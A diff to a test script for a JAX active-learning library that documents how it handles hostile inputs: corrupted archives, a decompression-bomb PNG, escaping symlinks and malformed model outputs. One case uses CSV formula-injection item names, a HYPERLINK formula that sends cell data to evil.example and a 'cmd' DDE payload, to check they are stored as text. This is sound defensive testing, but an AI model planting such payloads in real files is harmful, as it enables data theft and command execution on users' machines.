@@ -34,7 +34,8 @@ import numpy as np
 REPO = Path(__file__).resolve().parents[1]
 sys.path.insert(0, str(REPO))
 
-from lookahead_jax import data, loop, models, records, strategies, train  # noqa: E402
+from lookahead_jax import (data, loop, models, oracles, records,  # noqa: E402
+                          strategies, train)
 
 OUT = REPO / "docs" / "BAD_INPUTS.md"
 
@@ -291,7 +292,300 @@ def cases() -> list[Case]:
     add("strategy API", "sequential mode, one NaN candidate",
         lambda s: api(lambda: strategies.get("mlmoc")(_ctx(
             x_candidates=_ntk_x_nan(), label_fn=lambda j: 0))))
+    _hostile_cases(add, add_cli)
     return c
+
+
+# ----------------------------------------------------------------------------- issue 26
+
+
+def _arrays(n=30, seed=0):
+    rng = np.random.default_rng(seed)
+    return rng.normal(size=(n, 4)).astype(np.float32), np.arange(n) % 3
+
+
+def _npz(scratch: Path, name: str, content: bytes | None = None, **arrays) -> str:
+    path = scratch / name
+    if content is not None:
+        path.write_bytes(content)
+    else:
+        np.savez(path, **arrays)
+    return f"npz:{path}"
+
+
+def _good_npz() -> bytes:
+    buf = io.BytesIO()
+    x, y = _arrays()
+    np.savez(buf, x=x, y=y)
+    return buf.getvalue()
+
+
+def _crc_flipped() -> bytes:
+    b = bytearray(_good_npz())
+    b[bytes(b).index(b"\x93NUMPY") + 200] ^= 0xFF
+    return bytes(b)
+
+
+def _huge_header() -> bytes:
+    import zipfile
+
+    header, out = io.BytesIO(), io.BytesIO()
+    np.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False,
+                                                  "shape": (120_000_000_000,)})
+    with zipfile.ZipFile(out, "w") as z:
+        z.writestr("x.npy", header.getvalue() + b"\0" * 64)
+    return out.getvalue()
+
+
+def _pickled() -> bytes:
+    buf = io.BytesIO()
+    np.savez(buf, x=_arrays()[0], class_names=np.array(["a", None, "c"], dtype=object))
+    return buf.getvalue()
+
+
+def _images(root: Path, classes=("a", "b"), n=3, size=8, seed=0) -> Path:
+    from PIL import Image
+
+    rng = np.random.default_rng(seed)
+    for c in classes:
+        (root / c).mkdir(parents=True, exist_ok=True)
+        for i in range(n):
+            Image.fromarray(rng.integers(0, 256, (size, size), dtype=np.uint8)).save(
+                root / c / f"{i}.png")
+    return root
+
+
+def _png_header(width: int, height: int) -> bytes:
+    import struct
+    import zlib
+
+    def chunk(tag, body):
+        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I",
+                                                                       zlib.crc32(tag + body))
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8,
+                                                              0, 0, 0, 0))
+            + chunk(b"IDAT", zlib.compress(b"\0" * 64)) + chunk(b"IEND", b""))
+
+
+def _folder_case(scratch: Path, damage: Callable[[Path], None]) -> tuple:
+    root = _images(scratch / "pics")
+    damage(root)
+    return api(lambda: data.load_folder(str(root)))
+
+
+def _truncate_image(root: Path) -> None:
+    from PIL import Image
+
+    Image.fromarray(np.random.default_rng(1).integers(0, 256, (64, 64), dtype=np.uint8)).save(
+        root / "b" / "cut.png")
+    whole = (root / "b" / "cut.png").read_bytes()
+    (root / "b" / "cut.png").write_bytes(whole[:len(whole) // 2])
+
+
+def _link_outside(root: Path) -> None:
+    elsewhere = _images(root.parent / "elsewhere", seed=1)
+    (root / "unlabeled").mkdir()
+    os.symlink(elsewhere / "a", root / "unlabeled" / "more")
+
+
+def _link_twice(root: Path) -> None:
+    (root / "unlabeled").mkdir()
+    os.symlink("../a", root / "unlabeled" / "again")
+
+
+def _tool_files(scratch: Path) -> tuple:
+    root = _images(scratch / "pics")
+    (root / ".ipynb_checkpoints").mkdir()
+    (root / "a" / ".DS_Store").write_bytes(b"\0\0\0\1Bud1")
+    (root / "__MACOSX" / "a").mkdir(parents=True)
+    (root / "__MACOSX" / "a" / "._0.png").write_bytes(b"\0\5\26\7 not a png")
+    ds = data.load_folder(str(root))
+    return "handled", f"{' / '.join(ds.notes)} (classes {', '.join(ds.class_names)})", None
+
+
+def _sixteen_bit(scratch: Path) -> tuple:
+    from PIL import Image
+
+    root = scratch / "pics"
+    raw = np.random.default_rng(2).integers(0, 65536, (4, 8, 8)).astype(np.uint16)
+    for k, c in enumerate(("a", "b")):
+        (root / c).mkdir(parents=True)
+        for i in range(2):
+            Image.fromarray(raw[2 * k + i]).save(root / c / f"{i}.png")
+    ds = data.load_folder(str(root))
+    x = ds.x_train.ravel()
+    order = np.corrcoef(x, raw.ravel().astype(np.float64))[0, 1]
+    return "handled", (f"{Image.open(root / 'a' / '0.png').mode} images scaled by 65535: "
+                       f"{len(np.unique(x))} distinct values of {x.size} pixels, correlation "
+                       f"with the stored values {order:.6f}"), None
+
+
+def _exif(scratch: Path) -> tuple:
+    from PIL import Image
+
+    img = np.random.default_rng(3).integers(0, 256, (8, 8), dtype=np.uint8)
+    pools = []
+    for name, rotated in (("exif", False), ("twin", True)):
+        root = _images(scratch / name)
+        if rotated:
+            Image.fromarray(np.rot90(img, -1).copy()).save(root / "a" / "z.png")
+        else:
+            im = Image.fromarray(img)
+            exif = im.getexif()
+            exif[0x0112] = 6
+            im.save(root / "a" / "z.png", exif=exif.tobytes())
+        pools.append(data.load_folder(str(root)).x_train)
+    same = np.array_equal(pools[0], pools[1])
+    return "handled", ("an image with EXIF orientation 6 (turn 90° clockwise to view) is "
+                       f"decoded as a viewer shows it: {'equal' if same else 'NOT equal'} to "
+                       "the same picture stored turned"), None
+
+
+def _request_cells(scratch: Path) -> tuple:
+    import csv
+
+    items = ['=HYPERLINK("http://evil.example/?"&A1,"open").png', "+cmd|' /C calc'!A0.png"]
+    o = oracles.FileOracle(str(scratch / "w"), items, 2, ("cat", "dog"))
+    try:
+        o.ask(np.arange(2), "cycle_0")
+    except oracles.LabelsNeeded as need:
+        with open(need.request, newline="") as fh:
+            cells = [r[1] for r in list(csv.reader(fh))[1:]]
+    back = [oracles.restore(c) for c in cells] == items
+    return "handled", (f"to_label/cycle_0.csv holds {cells[0]} and {cells[1]} (text, not "
+                       f"formulas); read back: {'unchanged' if back else 'CHANGED'}"), None
+
+
+def _huge_field(scratch: Path) -> tuple:
+    path = scratch / "labels.csv"
+    path.write_text("index,label\n0," + "x" * (100 << 20) + "\n")
+    return api(lambda: oracles.read_label_file(str(path), [0], 3, ("cat", "dog", "fish")))
+
+
+def _numeric_names(scratch: Path) -> tuple:
+    path = scratch / "labels.csv"
+    path.write_text("index,label\n4,2\n5,0\n")
+    return api(lambda: oracles.read_label_file(str(path), [4, 5], 3, ("1", "2", "3")))
+
+
+def _corrected(scratch: Path) -> tuple:
+    o = oracles.FileOracle(str(scratch), [f"{i}.png" for i in range(6)], 2, ("cat", "dog"))
+    (scratch / "labels").mkdir()
+    (scratch / "labels" / "cycle_0.csv").write_text("index,label\n1,dog\n2,dog\n")
+    notes = o.changed_answers({1: 0, 2: 1})
+    return "handled", " / ".join(notes) or "(nothing said)", None
+
+
+def _pool_edited(scratch: Path) -> tuple:
+    x, y = _arrays(60)
+    given = np.where(np.arange(60) < 20, y, -1)
+    w = str(scratch / "w")
+    cfg = dict(strategy="random", oracle="files", cycles=3, initial_size=20, query_size=5,
+               subset_size=20)
+    try:
+        loop.run(_config(**cfg), w, dataset=data.from_arrays(x, given), log=lambda s: None)
+    except oracles.LabelsNeeded:
+        pass
+    given[25] = 1                          # labeled in the pool while the request is out
+    return api(lambda: loop.run(_config(**cfg), w, dataset=data.from_arrays(x, given),
+                                log=lambda s: None))
+
+
+def _liar(out):
+    import jax.numpy as jnp
+
+    def f(p, x):
+        return out(x.reshape(x.shape[0], -1) @ p["w"])
+    return models.from_function(f, params={"w": jnp.ones((16, 4)) / 16}, name="liar",
+                                embed=lambda p, x: x.reshape(x.shape[0], -1))
+
+
+def _liar_ctx(out, **change):
+    import jax.numpy as jnp
+
+    ds = _tiny()
+    return dataclasses.replace(strategies.AcquisitionContext(
+        model=_liar(out), params={"w": jnp.ones((16, 4)) / 16}, x_labeled=ds.x_train[:10],
+        y_labeled=ds.y_train[:10], x_candidates=ds.x_train[10:30], num_classes=4,
+        query_size=5, key=__import__("jax").random.key(1)), **change)
+
+
+def _coreset_empty(scratch: Path) -> tuple:
+    ds = _tiny()
+    sel = strategies.get("coreset")(_liar_ctx(lambda z: z, x_labeled=ds.x_train[:0],
+                                              y_labeled=np.zeros(0, np.int32),
+                                              labeled_capacity=10))
+    return "handled", f"picked candidates {sel.indices.tolist()} (k-center greedy from none)", \
+        None
+
+
+def _nan_model(scratch: Path) -> tuple:
+    import jax.numpy as jnp
+
+    model = _liar(lambda z: jnp.where(z[:, :1] > 0, jnp.nan, z))
+    ds = _tiny()
+    cfg = train.TrainConfig(epochs=1, batch_size=16)
+    state = train.create_train_state(model, model.init(__import__("jax").random.key(0),
+                                                       ds.x_train[:1]), cfg)
+    return api(lambda: train.fit(state, ds.x_train[:32], ds.y_train[:32], cfg,
+                                 key=__import__("jax").random.key(1)))
+
+
+def _hostile_cases(add, add_cli) -> None:
+    W = "--workdir={}"
+    # --- a user's own archives
+    for what, content in (("a truncated .npz", lambda: _good_npz()[:700]),
+                          ("an .npz with a bad CRC", _crc_flipped),
+                          ("a zero-byte .npz", lambda: b""),
+                          ("an .npy header that claims 480 GB", _huge_header),
+                          ("a text file named .npz", lambda: b"index,label\n0,cat\n"),
+                          ("an .npz holding an object (pickled) array", _pickled)):
+        add("archives", what, lambda s, content=content: api(lambda: data.load_dataset(
+            _npz(s, "pool.npz", content()))))
+    add("archives", "a 0-d `x`", lambda s: api(lambda: data.load_dataset(
+        _npz(s, "pool.npz", x=np.float32(3)))))
+    add("archives", "`x_test` examples shaped unlike `x`'s", lambda s: api(
+        lambda: data.load_dataset(_npz(s, "pool.npz", x=_arrays()[0], y=_arrays()[1],
+                                       x_test=np.zeros((5, 3)), y_test=np.zeros(5, int)))))
+    add("archives", "one stray label 7 among classes 0-2 (no `class_names`)", lambda s: api(
+        lambda: data.load_dataset(_npz(s, "pool.npz", x=_arrays()[0],
+                                       y=np.r_[_arrays()[1][:29], 7]))))
+    # --- image folders
+    add("images", "a decompression bomb (a 20000x20000 PNG)", lambda s: _folder_case(
+        s, lambda r: (r / "b" / "bomb.png").write_bytes(_png_header(20000, 20000))))
+    add("images", "a truncated image", lambda s: _folder_case(s, _truncate_image))
+    add("images", "a symlinked folder in `unlabeled/` that leads outside the pool",
+        lambda s: _folder_case(s, _link_outside))
+    add("images", "an image reached twice through a symlink inside the pool",
+        lambda s: _folder_case(s, _link_twice))
+    add("images", "hidden and tool files (`.DS_Store`, `.ipynb_checkpoints`, `__MACOSX`)",
+        _tool_files)
+    add("images", "16-bit greyscale PNGs (`I;16`)", _sixteen_bit)
+    add("images", "an EXIF-rotated photo", _exif)
+    add_cli("images", "`--workdir` inside the image folder", lambda s: cli(
+        f"--dataset=folder:{_images(s / 'pics')}", "--oracle=files", *CLI_ARGS[:4],
+        W.format(s / "pics" / "runs"), scratch=s))
+    # --- label files and requests
+    add("labels", "an item named `=HYPERLINK(...)` or `+cmd\|...` in a request", _request_cells)
+    add("labels", "a 100 MB field in a label file", _huge_field)
+    add("labels", "class folders `1/ 2/ 3/` and the label `0`", _numeric_names)
+    add("labels", "a label file corrected after it was read", _corrected)
+    add("labels", "the pool's labels edited while a request is out", _pool_edited)
+    # --- models that lie, numbers that are NaN
+    for what, out in (("`apply` returns C - 1 columns", lambda z: z[:, :3]),
+                      ("`apply` returns `(n,)`", lambda z: z[:, 0]),
+                      ("`apply` returns one row for any batch",
+                       lambda z: z.mean(0, keepdims=True))):
+        add("models", what, lambda s, out=out: api(lambda: loop.run(
+            _config(strategy="entropy"), None, dataset=_tiny(), model=_liar(out),
+            log=lambda m: None)))
+    add("models", "strategy API: `num_classes` unlike the model's outputs", lambda s: api(
+        lambda: strategies.get("mlmoc")(dataclasses.replace(_liar_ctx(lambda z: z),
+                                                            num_classes=5))))
+    add("models", "strategy API: core-set with an empty labeled set", _coreset_empty)
+    add("models", "a model whose outputs are NaN", _nan_model)
+    add_cli("flags", "`--max_train` below `--initial_size`",
+            lambda s: cli("--max_train=10", "--initial_size=20", W.format(s / "r"), scratch=s))
 
 
 def _readonly(scratch: Path) -> tuple:
